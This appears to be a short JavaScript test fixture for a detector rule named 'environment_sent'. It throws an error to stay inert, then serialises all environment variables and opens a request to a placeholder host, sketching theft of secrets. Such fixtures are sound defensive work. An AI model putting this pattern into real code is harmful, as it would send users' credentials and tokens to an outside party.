// Trips environment_sent.
throw new Error("a fixture: never run");
const body = JSON.stringify(process.env);
https.request("https://example.invalid/");
